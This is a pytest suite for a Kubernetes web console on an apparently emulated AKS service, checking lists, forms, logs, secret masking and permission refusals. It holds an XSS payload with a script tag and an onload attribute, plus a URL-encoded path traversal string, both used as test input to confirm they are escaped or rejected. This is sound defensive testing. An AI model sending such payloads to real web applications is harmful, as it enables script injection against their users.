"""The console's pages of Kubernetes clusters on real ones: what they show is what kubectl says, forms do their thing, who
may only read sees no buttons and is refused, hostile text is harmless."""

import glob
import json
import os
import re
import secrets
import signal
import urllib.parse
import uuid
from html.parser import HTMLParser

import pytest
import websocket

from harness import web
from harness.azure import admin
from harness.clusters import Clusters, cluster_body
from harness.console import Browser, Form, typed
from harness.containers import SHELL, push_shell
from harness.entra import Entra
from harness.leftovers import data_id, shims
from harness.machine import need
from harness.manager import READER
from harness.node import packages, run_checks
from harness.server import wait_until

IMAGE = f"sundog.azurecr.io/{SHELL}:1"
CLUSTER_USER = "4abbcc35-e782-43d8-92c5-2d3f1bd2253f"
HOSTILE = "<script>alert('x')</script>\" onload=\"y&"


@pytest.fixture(scope="module")
def clusters(sundog):
    need("root", "crun", "mount")
    push_shell(web.by_path(sundog))
    return Clusters(sundog, "console-clusters")


@pytest.fixture(scope="module")
def cluster(clusters):
    made = clusters.create("one", nodes=2)
    yield made
    clusters.remove(made)


@pytest.fixture(scope="module")
def owner(sundog):
    first = admin(sundog)
    browser = Browser(sundog)
    assert browser.sign_in(first["userName"], first["userPassword"]).status == 200
    return browser


@pytest.fixture(scope="module")
def person(sundog, clusters):
    """Makes a user with these roles on this scope; (his browser, his object id)."""
    entra = Entra(sundog)

    def make(scope, *roles):
        name = f"u{secrets.token_hex(4)}@sundog.localhost"
        user = entra.graph("POST", "/users", 201, {
            "displayName": name, "userPrincipalName": name, "accountEnabled": True, "mailNickname": name.split("@")[0],
            "passwordProfile": {"password": "Correct-horse-1"}})
        for role in roles:
            clusters.put(f"{scope}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}",
                         {"properties": {"principalId": user["id"], "principalType": "User", "roleDefinitionId":
                                         f"{clusters.sub}/providers/Microsoft.Authorization/roleDefinitions/{role}"}}, 201)
        browser = Browser(sundog)
        assert browser.sign_in(name, "Correct-horse-1").status == 200
        return browser, user["id"]
    return make


def page_of(cluster, below=""):
    return "/console" + cluster["id"] + below


def objects(cluster, what):
    return page_of(cluster, f"/objects/{what}")


class Handlers(HTMLParser):
    def handle_starttag(self, tag, attrs):
        assert not [name for name, _ in attrs if name.startswith("on")], (tag, attrs)


def harmless(page):
    assert "<script>alert" not in page.body
    Handlers().feed(page.body)
    return page


def forms_of(page):
    return [form.button.strip() for form in page.forms if form.method == "post" and form.button.strip() != "Sign out"]


def post(browser, page, path, **values):
    """A form that the page does not show, with the session's proof all the same."""
    form = Form(path)
    form.method = "post"
    form.fields["proof"] = page.form("Sign out").fields["proof"]
    return browser.submit(page, form, **values)


def deployment(name, replicas=1, script="while :; do sleep 1; done", **metadata):
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, **metadata},
            "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": name}}, "template": {
                "metadata": {"labels": {"app": name}},
                "spec": {"terminationGracePeriodSeconds": 1, "containers": [
                    {"name": "main", "image": IMAGE, "command": ["/bin/sh", "-c", script],
                     "resources": {"requests": {"cpu": "50m", "memory": "16Mi"}}}]}}}}


# clusters


def test_no_clusters_yet(person):
    browser, _ = person("")
    page = browser.get("/console/clusters")
    assert page.status == 200 and "az aks create" in page.text


def test_the_list_and_its_search(owner, cluster):
    page = owner.get("/console/clusters")
    assert page.links["one"] == page_of(cluster) and "Running" in page.text and "Succeeded" in page.text and "1.33.5" in page.text
    assert page.links["console-clusters"].endswith("/resourceGroups/console-clusters")
    assert "one" in owner.get("/console/clusters?q=ONE").links
    assert "one" not in owner.get("/console/clusters?q=two").links


def test_a_cluster(owner, clusters, cluster, kubectl):
    page = owner.get(page_of(cluster))
    assert page.status == 200 and page.title == "one · Sundog"
    server = re.search(r'server: "(.*)"', clusters.kubeconfig(cluster))[1]
    port = server.rsplit(":", 1)[1]
    for text in ("1.33.5", cluster["properties"]["fqdn"], "10.244.0.0/16", "10.0.0.0/16", "nodepool1", "Standard_DS2_v2", "System",
                 "az aks get-credentials -g console-clusters -n one", "az aks stop", "az aks nodepool scale"):
        assert text in page.text, text
    assert f":{port}" in page.text or f":{owner.base.rsplit(':', 1)[1]}" in page.text
    for node in kubectl.json("nodes")["items"]:
        assert page.links[node["metadata"]["name"]].endswith(f"/objects/core/v1/nodes/_/{node['metadata']['name']}")
        assert f"/ {node['status']['allocatable']['pods']}" in page.text
    assert "Ready" in page.text and page.links["Deployments"].endswith("/workloads")
    assert set(forms_of(page)) == {"Stop", "Delete the cluster", "Scale"}


def test_the_kubeconfig_as_a_file(owner, clusters, cluster):
    page = owner.get(page_of(cluster))
    answer = owner.get(page.links["Download kubeconfig"])
    assert answer.headers["Content-Disposition"] == 'attachment; filename="one.yaml"'
    assert answer.headers["Content-Type"] == "application/yaml" and answer.headers["Cache-Control"] == "no-store"
    assert answer.body.startswith("apiVersion: v1\nclusters:") and "clusterUser_console-clusters_one" in answer.body


def test_a_pool_is_scaled(owner, clusters, cluster, kubectl):
    page = owner.get(page_of(cluster))
    form = page.form("Scale")
    assert form.fields["count"] == "2" and form.action.endswith("/pools/nodepool1/scale")
    assert owner.submit(page, form, count="x").status == 400
    assert owner.submit(page, form, count="-1").status == 400
    said = owner.submit(page, form, count="3")
    assert "nodepool1 is being scaled to 3 nodes." in said.text and said.url.endswith(page_of(cluster))
    wait_until(lambda: len(kubectl.json("nodes")["items"]) == 3, "there are three")
    clusters.settled(cluster["id"])
    page = owner.get(page_of(cluster))
    assert page.form("Scale").fields["count"] == "3"
    owner.submit(page, page.form("Scale"), count="2")
    clusters.settled(cluster["id"])
    wait_until(lambda: len(kubectl.json("nodes")["items"]) == 2, "there are two")


def test_stop_start_delete(owner, clusters):
    made = clusters.create("two")
    page = owner.get(page_of(made))
    said = owner.submit(page, page.form("Stop"))
    assert said.status == 200 and "being stopped" in said.text
    wait_until(lambda: owner.get(page_of(made)).has_form("Start"), "it has stopped")
    clusters.settled(made["id"])
    page = owner.get(page_of(made))
    assert not page.has_form("Stop") and "az aks start -g console-clusters -n two" in page.text
    for below in ("/workloads", "/pods", "/services", "/configuration", "/events", "/objects/core/v1/namespaces/_/default"):
        inside = owner.get(page_of(made, below))
        assert inside.status == 200 and "The cluster is stopped." in inside.text, inside.text
    refused = post(owner, page, objects(made, "core/v1/namespaces/_/default/delete"))
    assert refused.status == 503 and "start it first" in refused.text
    page = owner.submit(page, page.form("Start"))
    assert "being started" in page.text
    clusters.settled(made["id"])
    wait_until(lambda: "Running" in owner.get(page_of(made)).text and owner.get(page_of(made, "/pods")).status == 200, "it runs")
    page = owner.get(page_of(made))
    assert owner.submit(page, page.form("Delete the cluster")).url.endswith("/console/clusters")
    wait_until(lambda: owner.get(page_of(made)).status == 404, "it is gone")
    assert "two" not in owner.get("/console/clusters").links


def test_a_cluster_is_made_by_a_form(owner, clusters):
    folder = clusters.path("x").split("/providers/")[0]
    page = owner.get(owner.get("/console/clusters").links["Create a cluster"])
    values = {"group": folder, "name": "by_form", "count": "2", "size": "Standard_B2s"}
    shown = owner.submit(page, page.form("Create"), press=0, **values)
    assert "az aks create -g console-clusters -n by_form --node-count 2 --node-vm-size Standard_B2s --no-ssh-key" in shown.text
    for wrong, said in (({"count": "0"}, "count must be a number from 1 to 1000"), ({"size": "Big"}, "Big"),
                        ({"name": ""}, "the name is missing"), ({"group": ""}, "choose a resource group")):
        again = owner.submit(page, page.form("Create"), press=1, **{**values, **wrong})
        assert again.status == 400 and said in again.text, again.text
    made = owner.submit(shown, shown.form("Create"), press=1)
    path = clusters.path("by_form")
    assert made.url.endswith(f"/console{path}") and "is being made" in made.text
    for content in owner.live(f"/console{path}"):  # without being loaded again
        if "Succeeded" in content and "Creating" not in content and re.search(r"<td>Ready|Ready</span>", content):
            break
    got = clusters.settled(path)
    assert got["properties"]["dnsPrefix"] == f"byform-console-clusters-{clusters.sub.split('/')[-1][:6]}"  # as az makes it
    pool = got["properties"]["agentPoolProfiles"][0]
    assert (pool["name"], pool["count"], pool["vmSize"], pool["mode"]) == ("nodepool1", 2, "Standard_B2s", "System")
    clusters.remove(got)


def test_a_pool_is_added_and_deleted(owner, person, clusters, cluster, kubectl):
    page = owner.get(owner.get(page_of(cluster)).links["Add a node pool"])
    values = {"name": "more", "count": "1", "mode": "User"}
    shown = owner.submit(page, page.form("Create"), press=0, **values)
    assert ("az aks nodepool add -g console-clusters --cluster-name one -n more --node-count 1 --node-vm-size Standard_DS2_v2"
            " --mode User") in shown.text
    wrong = owner.submit(page, page.form("Create"), press=1, **{**values, "name": "Not-Good"})
    assert wrong.status == 400 and wrong.form("Create").fields["name"] == "Not-Good"
    made = owner.submit(shown, shown.form("Create"), press=1)
    assert "is being made" in made.text and made.url.endswith(page_of(cluster))
    wait_until(lambda: any("-more-" in n["metadata"]["name"] for n in kubectl.json("nodes")["items"]), "its node is there")
    clusters.settled(cluster["id"])
    assert owner.submit(shown, shown.form("Create"), press=1).status == 409
    reader, _ = person(cluster["id"], READER)
    seen = reader.get(page_of(cluster))
    assert "more" in seen.text and "Add a node pool" not in seen.links and "Delete" not in forms_of(seen)
    assert post(reader, seen, page_of(cluster, "/pools/more/delete")).status == 403
    page = owner.get(page_of(cluster))
    form = next(form for form in page.forms if form.action.endswith("/pools/more/delete"))
    assert "more is being deleted." in owner.submit(page, form).text
    wait_until(lambda: not any("-more-" in n["metadata"]["name"] for n in kubectl.json("nodes")["items"]), "its node is gone")
    clusters.settled(cluster["id"])
    wait_until(lambda: "Delete" not in forms_of(owner.get(page_of(cluster))), "the last pool has no button")


def test_no_such_cluster(owner, cluster):
    for below in ("", "/pods", "/workloads", "/kubeconfig"):
        assert owner.get(page_of(cluster)[:-3] + "none" + below).status == 404


# workloads and pods


def test_a_deployment_and_its_pods(owner, cluster, k):
    k.apply(deployment("web", 2))
    k("rollout", "status", "deployment/web", "--timeout=60s")
    page = owner.get(page_of(cluster, f"/workloads?namespace={k.namespace}"))
    assert "web Deployment" in page.text and "2/2" in page.text and IMAGE in page.text and "ReplicaSet" not in page.text.split("kubectl")[0]
    assert f"kubectl get deployments,statefulsets,daemonsets,replicasets,jobs -n {k.namespace}" in page.text
    shown = owner.get(page.links["web"])
    assert shown.title == "Deployment web · Sundog" and "2 of 2" in shown.text
    names = [pod["metadata"]["name"] for pod in k.json("pods")["items"]]
    assert len(names) == 2 and all(name in shown.links for name in names)
    assert "ScalingReplicaSet" in shown.text and "kind: Deployment" in shown.text and "managedFields" not in shown.text
    for text in ("kubectl scale deployment/web", "kubectl rollout restart deployment/web", "kubectl get deployment/web"):
        assert text in shown.text
    # scaled
    form = shown.form("Scale")
    assert form.fields["replicas"] == "2"
    assert owner.submit(shown, form, replicas="many").status == 400
    said = owner.submit(shown, form, replicas="1")
    assert "web is being scaled to 1." in said.text and k.json("deployment", "web")["spec"]["replicas"] == 1
    wait_until(lambda: len(k.json("pods")["items"]) == 1, "one is left")
    # restarted
    said = owner.submit(said, said.form("Restart"))
    assert "web is being restarted." in said.text
    template = k.json("deployment", "web")["spec"]["template"]["metadata"]
    assert re.match(r"20\d\d-.*Z$", template["annotations"]["kubectl.kubernetes.io/restartedAt"])
    k("rollout", "status", "deployment/web", "--timeout=60s")
    # deleted, with what it owns
    said = owner.submit(said, said.form("Delete"))
    assert "Deployment web is being deleted." in said.text and page_of(cluster, "/workloads") in said.url
    wait_until(lambda: not k.json("pods")["items"] and not k.json("replicasets")["items"], "all is gone")


def test_workloads_of_every_kind(owner, cluster, k):
    k.apply(deployment("d"))
    template = deployment("r")["spec"]
    k.apply({"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": {"name": "r"}, "spec": template})
    job = {"restartPolicy": "Never", "containers": [{"name": "main", "image": IMAGE, "command": ["true"]}]}
    k.apply({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "j"}, "spec": {"template": {"spec": job}}})
    k.apply({"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": "s"}, "spec": {**deployment("s")["spec"], "serviceName": "s"}})
    wait_until(lambda: k.json("job", "j")["status"].get("succeeded") == 1, "the job is done")
    page = owner.get(page_of(cluster, f"/workloads?namespace={k.namespace}"))
    for text in ("d Deployment", "r ReplicaSet", "j Job", "s StatefulSet", "0/1"):
        assert text in page.text, page.text
    assert page.text.count(" ReplicaSet ") == 1  # the deployment's own is not shown
    job = owner.get(page.links["j"])
    assert job.title == "Job j · Sundog" and k.json("pods", "-l", "job-name=j")["items"][0]["metadata"]["name"] in job.links
    assert "Scale" not in forms_of(job)


def test_pods_as_kubectl_prints_them(owner, cluster, k):
    def pod(name, script, **spec):
        k.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": {
            "terminationGracePeriodSeconds": 1, "containers": [{"name": "main", "image": IMAGE, "command": ["/bin/sh", "-c", script]}],
            **spec}})
    pod("runs", "while :; do sleep 1; done")
    pod("done", "exit 0", restartPolicy="Never")
    pod("fails", "exit 3", restartPolicy="Never")
    pod("crashes", "exit 1")
    pod("nowhere", "true", nodeSelector={"no": "such"})
    pod("imageless", "true", containers=[{"name": "main", "image": "sundog.azurecr.io/none:1"}])
    def printed():
        lines = [line.split() for line in k("get", "pods", "--no-headers").splitlines()]
        return {line[0]: (line[2], line[1]) for line in lines}
    wait_until(lambda: (p := printed()) and p["runs"][0] == "Running" and p["done"][0] == "Completed" and p["fails"][0] == "Error"
               and p["crashes"][0] == "CrashLoopBackOff" and p["imageless"][0] in ("ImagePullBackOff", "ErrImagePull"), "they are so far")
    def same():
        page = owner.get(page_of(cluster, f"/pods?namespace={k.namespace}"))
        return all(f"{name} {k.namespace} {status} {ready} " in page.text for name, (status, ready) in printed().items()) and page
    page = wait_until(same, "the page says what kubectl says")
    assert "Pending" in page.text and k.json("pod", "runs")["status"]["podIP"] in page.text
    assert k.json("pod", "runs")["spec"]["nodeName"] in page.links
    def backs_off():  # between its starts
        text = owner.get(page.links["crashes"]).text
        return all(word in text for word in ("CrashLoopBackOff", "back-off", "BackOff"))
    wait_until(backs_off, "its page says that it is not started yet")
    assert "exit code 3" in owner.get(page.links["fails"]).text
    found = owner.get(page_of(cluster, f"/pods?namespace={k.namespace}&q=RUN"))
    assert "runs" in found.links and "done" not in found.links
    assert "Nothing matches." in owner.get(page_of(cluster, "/pods?q=nosuchpod")).text
    assert "Nothing matches." in owner.get(page_of(cluster, "/pods?namespace=nosuch")).text
    # deleted
    runs = owner.get(page.links["runs"])
    assert owner.submit(runs, runs.form("Delete")).url.endswith("/pods")
    wait_until(lambda: k.run("get", "pod", "runs", check=False).returncode, "it is gone")
    assert owner.get(page.links["runs"]).status == 404


def test_logs(owner, cluster, k):
    script = ("for i in $(seq 1 600); do echo line-$i; done; printf '\\033[31mred\\033[0m \\001\\377 %s\\n' \"$EVIL\"; "
              "while :; do sleep 1; done")
    k.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "says"}, "spec": {"terminationGracePeriodSeconds": 1, "containers": [
        {"name": "main", "image": IMAGE, "command": ["/bin/sh", "-c", script], "env": [{"name": "EVIL", "value": HOSTILE}]},
        {"name": "quiet", "image": IMAGE, "command": ["/bin/sh", "-c", "while :; do sleep 1; done"]}]}})
    k("wait", "--for=condition=Ready", "pod/says", "--timeout=60s")
    wait_until(lambda: "red" in owner.get(page_of(cluster, f"/pods/{k.namespace}/says/logs")).text, "it has said it")
    pod = owner.get(objects(cluster, f"core/v1/pods/{k.namespace}/says"))
    assert "quiet" in pod.text and "Running" in pod.text
    page = harmless(owner.get(page_of(cluster, f"/pods/{k.namespace}/says/logs?container=main")))
    assert page.status == 200 and "line-600" in page.text and "line-102" in page.text and "line-101 " not in page.text
    assert "red \u2401\ufffd <script>alert('x')</script>" in page.text and "\033" not in page.body and "[31m" not in page.text
    assert '<pre class="log"' in page.body and "kubectl logs says" in page.text and page.links["quiet"] == "?container=quiet"
    assert owner.get(pod.links["Logs"]).status == 200
    assert "line-600" in owner.get(page_of(cluster, f"/pods/{k.namespace}/says/logs")).text
    assert "printed nothing yet" in owner.get(page_of(cluster, f"/pods/{k.namespace}/says/logs?container=quiet")).text
    assert "not valid" in owner.get(page_of(cluster, f"/pods/{k.namespace}/says/logs?container=other")).text
    assert owner.get(page_of(cluster, f"/pods/{k.namespace}/none/logs")).status == 404
    assert len(page.body) < 200_000


def test_logs_of_the_run_before(owner, cluster, k):
    script = "if [ -e /v/was ]; then echo second-run; exec sleep 100000; fi; touch /v/was; echo first-run; exit 3"
    k.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "again"}, "spec": {
        "terminationGracePeriodSeconds": 0, "volumes": [{"name": "v", "emptyDir": {}}], "containers": [
            {"name": "main", "image": IMAGE, "command": ["/bin/sh", "-c", script], "volumeMounts": [{"name": "v", "mountPath": "/v"}]},
            {"name": "once", "image": IMAGE, "command": ["/bin/sh", "-c", "exec sleep 100000"]}]}})
    path = page_of(cluster, f"/pods/{k.namespace}/again/logs")
    def has_run_twice():  # its status is told after the log
        status = {s["name"]: s for s in k.json("pod", "again")["status"].get("containerStatuses", [])}
        return "main" in status and status["main"]["restartCount"] == 1 and "running" in status["main"]["state"]
    wait_until(lambda: "second-run" in owner.get(path).text and has_run_twice(), "it was started again")
    page = owner.get(path)
    assert "first-run" not in page.text and "--previous" not in page.text
    assert owner.get(objects(cluster, f"core/v1/pods/{k.namespace}/again")).links["of the run before"].endswith("&previous=true")
    before = owner.get(path + page.links["The run before"])
    assert "first-run" in before.text and "second-run" not in before.text
    assert re.search(rf"kubectl logs again -n {k.namespace} -c main --tail=\d+ --previous", before.text)
    assert "second-run" in owner.get(path + before.links["This run"]).text
    once = owner.get(path + "?container=once")
    assert "The run before" not in once.links
    assert "previous terminated container" in owner.get(path + "?container=once&previous=true").text


def test_much_log_is_cut(owner, cluster, k):
    k("run", "much", f"--image={IMAGE}", "--restart=Never", "--command", "--", "sh", "-c",
      "for i in $(seq 1 400); do printf '%s ' $i; head -c 4000 /dev/zero | tr '\\0' x; echo; done; echo the end; sleep 1000")
    wait_until(lambda: "the end" in k.run("logs", "much", check=False).stdout, "it has said it")
    page = owner.get(page_of(cluster, f"/pods/{k.namespace}/much/logs"))
    assert "the end" in page.text and "400 xxx" in page.text and len(page.body) < 200_000
    k("delete", "pod", "much", "--grace-period=0", "--force")


# services, configuration, events


def test_use_beside_requests(owner, cluster, k):
    k.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "busy"}, "spec": {
        "terminationGracePeriodSeconds": 1, "containers": [{
            "name": "main", "image": IMAGE, "command": ["/bin/sh", "-c", "head -c 40000000 /dev/zero > /dev/shm/x; while :; do :; done"],
            "resources": {"requests": {"cpu": "100m", "memory": "32Mi"}, "limits": {"cpu": "500m", "memory": "128Mi"}}}]}})
    used = r"0\.[1-9]\d / {} (3[89]|4\d)\.\d MiB / {} "
    listed = rf"busy {k.namespace} Running 1/1 0 " + used.format(r"0\.10", r"32\.0 MiB")
    page = wait_until(lambda: (p := owner.get(page_of(cluster, f"/pods?namespace={k.namespace}"))) and re.search(listed, p.text) and p,
                      "the list shows what it uses")
    node = k.json("pod", "busy")["spec"]["nodeName"]
    for path, shown in ((page.links["busy"], "Running 0 " + used.format(r"0\.50", "128 MiB")), (
            page_of(cluster), rf"{node} Ready \d+ / \d+ [\d.]+ / [\d.]+ [\d.]+ .iB / [\d.]+ .iB 0\.[1-9]\d (3[89]|4\d)\.\d MiB ")):
        wait_until(lambda path=path, shown=shown: re.search(shown, owner.get(path).text), f"{path} shows {shown}")
    assert "Memory requested Used Age" in owner.get(page_of(cluster)).text
    assert "busy" in k("top", "pods")


def test_a_pod_that_cannot_be_asked_hides_no_others(sundog, owner, cluster, k):
    """Its supervisor stands still: the lists are shown all the same, without what it uses."""
    def begin(name):
        k("run", name, f"--image={IMAGE}", "--restart=Never", "--command", "--", "sleep", "1000")
        k("wait", "--for=condition=Ready", f"pod/{name}", "--timeout=120s")

    begin("fine")
    begin("stuck")
    uid = k.json("pod", "stuck")["metadata"]["uid"].replace("-", "")
    [path] = glob.glob(f"/run/sundog-{data_id(sundog.data)}/s/p*-{uid}/pid")
    with open(path, encoding="ascii") as file:
        supervisor = int(file.read().split()[0])
    assert supervisor in shims(sundog.data)
    os.kill(supervisor, signal.SIGSTOP)
    try:
        page = owner.get(page_of(cluster, f"/pods?namespace={k.namespace}"))
        assert page.status == 200 and re.search(rf"stuck {k.namespace} Running 1/1 0 – ", page.text), page.text
        assert re.search(rf"fine {k.namespace} Running 1/1 0 [\d.]+ ", page.text), page.text
        assert owner.get(page.links["stuck"]).status == owner.get(page_of(cluster)).status == 200
        top = k("top", "pods")
        assert "fine" in top and "stuck" not in top, top
    finally:
        os.kill(supervisor, signal.SIGCONT)


def test_services(owner, cluster, k):
    k.apply({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "inner"}, "spec": {"selector": {"a": "b"}, "ports": [{"port": 80}]}})
    k.apply({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "outer"},
             "spec": {"type": "LoadBalancer", "selector": {"a": "b"}, "ports": [{"name": "a", "port": 80}, {"name": "b", "port": 443}]}})
    ip = wait_until(lambda: (k.json("service", "outer")["status"]["loadBalancer"].get("ingress") or [{}])[0].get("ip"), "it has an address")
    page = owner.get(page_of(cluster, f"/services?namespace={k.namespace}"))
    assert page.links[f"{ip}:80"] == f"http://{ip}:80/" and page.links[f"{ip}:443"] == f"https://{ip}:443/"
    assert k.json("service", "inner")["spec"]["clusterIP"] in page.text and "ClusterIP" in page.text and "LoadBalancer" in page.text
    assert "outer" not in owner.get(page_of(cluster, f"/services?namespace={k.namespace}&q=inner")).links


def test_secrets_stay_secret(owner, cluster, k):
    word = "hunter" + secrets.token_hex(8)
    encoded = json.loads(k("create", "secret", "generic", "s", f"--from-literal=password={word}", "--dry-run=client", "-o", "json"))
    k.apply({**encoded, "metadata": {"name": "s"}})  # with the annotation of what was applied
    k("create", "configmap", "m", "--from-literal=colour=red", f"--from-literal=evil={HOSTILE}")
    page = owner.get(page_of(cluster, f"/configuration?namespace={k.namespace}"))
    assert "m ConfigMap" in page.text and "colour, evil" in page.text and "s Secret" in page.text and "password" in page.text
    value = encoded["data"]["password"]
    shown = owner.get(page.links["s"])
    for body in (page.body, shown.body):
        assert word not in body and value not in body
    assert "password: '********'" in shown.text or 'password: "********"' in shown.text, shown.text
    shown = harmless(owner.get(page.links["m"]))
    assert "colour: red" in shown.text and "<script>alert('x')" in shown.text


def test_events_newest_first(owner, cluster, k):
    def event(name, message, minute):
        k.apply({"apiVersion": "v1", "kind": "Event", "metadata": {"name": name}, "type": "Warning", "reason": "Told", "message": message,
                 "involvedObject": {"apiVersion": "v1", "kind": "Pod", "namespace": k.namespace, "name": "p"},
                 "lastTimestamp": f"2090-01-01T00:0{minute}:00Z", "count": 7})
    event("a", "the older", 1)
    event("b", "the newer " + HOSTILE, 2)
    page = harmless(owner.get(page_of(cluster, f"/events?namespace={k.namespace}")))
    assert page.text.index("the newer") < page.text.index("the older") and "Warning Told" in page.text
    assert page.links["Pod/p"].endswith(f"/objects/core/v1/pods/{k.namespace}/p")
    found = owner.get(page_of(cluster, f"/events?namespace={k.namespace}&q=older"))
    assert "the older" in found.text and "the newer" not in found.text
    found = harmless(owner.get(page_of(cluster, f"/events?namespace={k.namespace}&q={urllib.parse.quote('WARNING Told pod/p the newer ' + HOSTILE)}")))
    assert "the older" not in found.text and "the newer" in found.text
    assert "the newer" in harmless(owner.get(page_of(cluster))).text


# any object


def test_owners_and_hostile_text(owner, cluster, k):
    k.apply(deployment("evil", annotations={"note": HOSTILE}))
    name = wait_until(lambda: (k.json("pods")["items"] or [{}])[0].get("metadata", {}).get("name"), "it has a pod")
    harmless(owner.get(objects(cluster, f"apps/v1/deployments/{k.namespace}/evil")))
    pod = owner.get(objects(cluster, f"core/v1/pods/{k.namespace}/{name}"))
    replicas = owner.get(next(link for text, link in pod.links.items() if text.startswith("ReplicaSet ")))
    assert "Scale" not in forms_of(replicas)  # its owner would set it back
    assert name in replicas.links and replicas.links["Deployment evil"].endswith(f"/objects/apps/v1/deployments/{k.namespace}/evil")
    for below in ("/pods", "/workloads", "/services", "/configuration", "/events"):
        for parameter in ("q", "namespace"):
            page = harmless(owner.get(page_of(cluster, f"{below}?{parameter}={urllib.parse.quote(HOSTILE)}")))
            assert page.status == 200, page.text


def test_objects_of_no_namespace(owner, cluster):
    page = owner.get(objects(cluster, "rbac.authorization.k8s.io/v1/clusterroles/_/system:node"))
    assert page.status == 200 and "kubectl get clusterroles.rbac.authorization.k8s.io/system:node -o yaml" in page.text
    node = owner.get(next(link for text, link in owner.get(page_of(cluster)).links.items() if text.startswith("aks-")))
    assert node.status == 200 and "kind: Node" in node.text


@pytest.mark.parametrize("path", ["core/v1/pods/default/none", "core/v1/none/_/x", "core/v1/pods", "a/b/c/d/e/f", "apps/v9/deployments/default/x",
                                  "core/v1/pods/default/%2e%2e%2f%2e%2e", "authorization.k8s.io/v1/selfsubjectaccessreviews/_/x"])
def test_no_such_object(owner, cluster, path):
    assert owner.get(objects(cluster, path)).status in (400, 404)


def test_big_objects_are_cut(owner, cluster, k):
    k.apply({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "big"}, "data": {f"k{n}": "x" * 1000 for n in range(600)}}, "--server-side")
    page = owner.get(objects(cluster, f"core/v1/configmaps/{k.namespace}/big"))
    assert "This is its beginning" in page.text and len(page.body) < 200_000
    assert len(owner.get(page_of(cluster, f"/configuration?namespace={k.namespace}")).body) < 200_000


def test_long_lists(owner, cluster, k):
    items = [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"m{n:03}", "namespace": k.namespace}} for n in range(230)]
    k.apply({"apiVersion": "v1", "kind": "List", "items": items}, "--server-side")
    wait_until(lambda: k.run("get", "configmap", "kube-root-ca.crt", check=False).returncode == 0, "its own is there, too")
    path = page_of(cluster, f"/configuration?namespace={k.namespace}")
    first = owner.get(path)
    names = {f"m{n:03}" for n in range(230)}
    total = re.search(r"1 to 100 of (\d+)", first.text)[1]
    assert int(total) == 231 and len(names & set(first.links)) in (99, 100)  # and kube-root-ca.crt
    second = owner.get(urllib.parse.urljoin(owner.base + path, first.links["Next"]))
    third = owner.get(urllib.parse.urljoin(owner.base + path, second.links["Next"]))
    shown = [name for page in (first, second, third) for name in page.links if name in names]
    assert sorted(shown) == sorted(names) and "Next" not in third.links and "Previous" in third.links
    found = owner.get(path + "&q=m22")
    assert {name for name in found.links if name in names} == {f"m22{n}" for n in range(10)}


# who may what


READ_ONLY_PATHS = ("/pods", "/workloads", "/services", "/configuration", "/events", "/objects/core/v1/namespaces/_/default")


def test_a_reader_sees_no_buttons_and_is_refused(person, clusters, cluster):
    browser, _ = person(clusters.sub, READER)
    page = browser.get(browser.get("/console/clusters").links["one"])
    assert page.status == 200 and forms_of(page) == [] and "Download kubeconfig" not in page.links
    assert "listClusterUserCredential/action" in page.text and "nodepool1" in page.text
    for below in READ_ONLY_PATHS:
        refused = browser.get(page_of(cluster, below))
        assert refused.status == 403 and "listClusterUserCredential/action" in refused.text, below
    assert browser.get(page_of(cluster, "/kubeconfig")).status == 403
    for path in ("/start", "/stop", "/delete", "/pools/nodepool1/scale", "/objects/core/v1/namespaces/_/default/delete",
                 "/objects/apps/v1/deployments/default/x/scale", "/objects/apps/v1/deployments/default/x/restart"):
        assert post(browser, page, page_of(cluster, path), count="1", replicas="1").status == 403, path
    assert clusters.send("GET", cluster["id"]).json()["properties"]["agentPoolProfiles"][0]["count"] == 2


@pytest.mark.parametrize("path", ["/stop", "/delete", "/pools/nodepool1/scale", "/objects/core/v1/namespaces/_/default/delete"])
def test_a_form_of_another_site_does_nothing(owner, cluster, path):
    form = Form(page_of(cluster, path))
    form.method, form.fields["proof"] = "post", "0" * 64
    assert owner.submit(owner.get(page_of(cluster)), form, count="1").status == 403


@pytest.fixture(scope="module")
def entra_cluster(clusters):
    path, body = clusters.path("entra"), cluster_body(1)
    body["properties"]["aadProfile"] = {"managed": True}
    web.expect(clusters.send("PUT", path, body), 201)
    made = clusters.settled(path)
    yield made
    clusters.remove(made)


def test_as_oneself_where_entra_is_in_charge(owner, person, clusters, entra_cluster):
    k = clusters.kubectl(entra_cluster)
    browser, who = person(entra_cluster["id"], CLUSTER_USER)
    refused = browser.get(page_of(entra_cluster, "/pods"))
    assert refused.status == 200 and who in refused.text and "cannot list" in refused.text
    assert browser.get(objects(entra_cluster, "core/v1/namespaces/_/default")).status == 403
    k("create", "clusterrolebinding", "viewer", "--clusterrole=view", f"--user={who}")
    k.apply(deployment("web"))
    k("create", "secret", "generic", "hidden")
    page = wait_until(lambda: (p := browser.get(page_of(entra_cluster, "/workloads"))) and "web" in p.links and p, "he may look")
    shown = browser.get(page.links["web"])
    assert shown.status == 200 and forms_of(shown) == []
    for verb in ("scale", "restart", "delete"):
        answer = post(browser, shown, objects(entra_cluster, f"apps/v1/deployments/default/web/{verb}"), replicas="5")
        assert answer.status == 403 and "cannot" in answer.text, answer.text
    assert k.json("deployment", "web")["spec"]["replicas"] == 1
    page = browser.get(page_of(entra_cluster, "/configuration"))
    assert "ConfigMap" in page.text and "cannot list resource" in page.text and "hidden" not in page.links
    # an administrator sees all, by the cluster's certificate
    assert "hidden" in owner.get(page_of(entra_cluster, "/configuration")).links
    assert "Scale" in forms_of(owner.get(objects(entra_cluster, "apps/v1/deployments/default/web")))
    # in a namespace of his own he may more
    k("create", "rolebinding", "editor", "--clusterrole=edit", f"--user={who}", "-n", "default")
    shown = wait_until(lambda: (p := browser.get(shown.url)) and "Scale" in forms_of(p) and p, "he may change it")
    assert "being scaled to 2" in browser.submit(shown, shown.form("Scale"), replicas="2").text
    assert k.json("deployment", "web")["spec"]["replicas"] == 2


# a shell


